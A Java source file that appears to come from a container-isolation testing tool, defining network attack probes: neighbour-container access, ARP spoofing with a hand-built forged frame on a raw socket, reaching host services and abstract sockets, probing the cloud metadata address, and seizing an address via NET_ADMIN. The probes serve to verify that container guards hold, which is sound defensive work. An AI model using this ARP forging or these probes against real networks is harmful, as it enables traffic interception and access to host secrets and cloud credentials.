package dev.hasp.testing.attack;

import dev.hasp.linux.Capability;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;

/** Reaching over the network what is not meant to be reached. */
final class NetworkAttacks {

    /** The address that the forged message gives to another, locally administered. */
    private static final String FORGED = "02:66:6f:72:67:65";

    private static final int PACKET = 17;
    private static final int RAW = 3;
    private static final int ARP = 0x0806;
    private static final int GET_INDEX = 0x8933;

    private NetworkAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.named("neighbour-traffic", "talks to a neighbour on the bridge that containers share by default")
                        .source("CIS Docker Benchmark 1.6.0, 5.30; dockerd, --icc")
                        .weak(Weak.BRIDGE)
                        .guards(Guards.ownNetwork(), Guards.noNetwork())
                        .script("""
                                seen "$(timeout 2 wget -q -O - http://$NEIGHBOUR:8080/secret 2>&1)" 'secret of the neighbour'
                                """),
                Attack.named("arp-spoofing", "tells a neighbour that the gateway has another hardware address")
                        .source("packet(7); RFC 826; CIS Docker Benchmark 1.6.0, 5.3, NET_RAW")
                        .weak(Weak.BRIDGE)
                        .guards(Guards.without(Capability.NET_RAW), Guards.noNetwork(), Guards.user())
                        .programFor(NetworkAttacks::forge)
                        .script("""
                                run
                                [ -z "$out" ] || { echo "$out"; exit; }
                                for peer in $PEERS; do
                                    timeout 2 wget -q -O /dev/null http://$peer:8080/cgi-bin/forget 2>/dev/null && found=$peer
                                done
                                [ -n "$found" ] || { echo 'no neighbour on its network'; exit; }
                                run
                                sleep 0.1
                                seen "$(timeout 2 wget -q -O - http://$found:8080/cgi-bin/arp | grep '%s')" '%s'
                                """.formatted(FORGED, FORGED)),
                Attack.named("host-service", "talks to a service of the host at the address of the network's gateway")
                        .source("iptables(8), INPUT, which the engine's own rules for FORWARD do not guard")
                        .weak(Weak.BRIDGE)
                        .guards(Guards.noNetwork())
                        .script("""
                                for host in $HOSTS; do
                                    out=$(timeout 2 wget -q -O - http://$host:$PORT/secret 2>&1)
                                    seen "$out" 'secret of the host'
                                    case $out in secret*) break ;; esac
                                done
                                """),
                Attack.named("host-loopback", "talks to a service that listens on the host's loopback address alone")
                        .source("network_namespaces(7); CIS Docker Benchmark 1.6.0, 5.10")
                        .weak(Weak.HOST_NETWORK)
                        .guards(Guards.networkNamespace(), Guards.noNetwork())
                        .script("""
                                seen "$(timeout 2 wget -q -O - http://127.0.0.1:$PORT/secret 2>&1)" 'secret of the host'
                                """),
                Attack.named(
                                "abstract-socket",
                                "talks to a service of the host at an abstract address, which is no file")
                        .source("unix(7); CVE-2020-15257, containerd")
                        .weak(Weak.HOST_NETWORK)
                        .guards(Guards.networkNamespace(), Guards.noNetwork())
                        .program(p -> {
                            long buffer = p.room(64);
                            p.call("socket", 1, 1, 0)
                                    .call("connect", 3, abstractAddress(p), 2 + AttackRange.ABSTRACT.length())
                                    .call("read", 3, buffer, 64)
                                    .call("write", 1, buffer, 64);
                        })
                        .script("run; seen \"$out\" 'secret of the host'\n"),
                Attack.named(
                                "metadata-address",
                                "has a way to 169.254.169.254, where clouds keep a machine's credentials")
                        .source("Amazon EC2, instance metadata and user data; CWE-918")
                        .stopsBefore("sending anything there")
                        .weak(Weak.BRIDGE)
                        .guards(Guards.noNetwork())
                        .program(p -> {
                            long address = p.bytes(new byte[] {
                                2, 0, 0, 80, (byte) 169, (byte) 254, (byte) 169, (byte) 254, 0, 0, 0, 0, 0, 0, 0, 0
                            });
                            p.call("socket", 2, 2, 0).call("connect", 3, address, 16);
                        })
                        .script("run; echo \"${out:-effect: the kernel has a route}\"\n"),
                Attack.named("take-address", "takes an address of its own choosing")
                        .source("capabilities(7), NET_ADMIN")
                        .weak(Weak.with(Capability.NET_ADMIN))
                        .guards(Guards.without(Capability.NET_ADMIN), Guards.user())
                        .script("""
                                out=$(ip addr add 192.0.2.77/32 dev lo 2>&1; ip addr show lo | grep 192.0.2.77)
                                ip addr del 192.0.2.77/32 dev lo 2>/dev/null
                                seen "$(echo $out)" 'inet 192.0.2.77/32'
                                """));
    }

    /** A {@code struct sockaddr_un} whose path begins with 0 (unix(7), abstract). */
    static long abstractAddress(CallProgram program) {
        return NeighbourAttacks.unixAddress(program, AttackRange.ABSTRACT);
    }

    /** For each of the peer's networks an ARP request from the gateway's address and a forged hardware address. */
    private static void forge(Targets targets, CallProgram program) {
        program.call("socket", PACKET, RAW, Short.toUnsignedLong(Short.reverseBytes((short) ARP)));
        // the kernel writes the index over what follows the name, which is where struct sockaddr_ll has it
        ByteBuffer request = ByteBuffer.allocate(48);
        request.put("eth0".getBytes(StandardCharsets.US_ASCII))
                .position(12)
                .put((byte) PACKET)
                .position(23)
                .put((byte) 6)
                .put(new byte[] {-1, -1, -1, -1, -1, -1});
        long device = program.bytes(request.array());
        program.call("ioctl", 3, GET_INDEX, device);
        for (int i = 0; i < targets.peers().size(); i++) {
            long message = program.bytes(
                    message(targets.gateways().get(i), targets.peers().get(i)));
            program.call("sendto", 3, message, 42, 0, device + 12, 20);
        }
    }

    /** An Ethernet frame to all with an ARP request (RFC 826). */
    private static byte[] message(String from, String to) {
        byte[] forged = HexFormat.ofDelimiter(":").parseHex(FORGED);
        return ByteBuffer.allocate(42)
                .put(new byte[] {-1, -1, -1, -1, -1, -1})
                .put(forged)
                .putShort((short) ARP)
                .put(new byte[] {0, 1, 8, 0, 6, 4, 0, 1})
                .put(forged)
                .put(Targets.bytes(from))
                .put(new byte[6])
                .put(Targets.bytes(to))
                .array();
    }
}
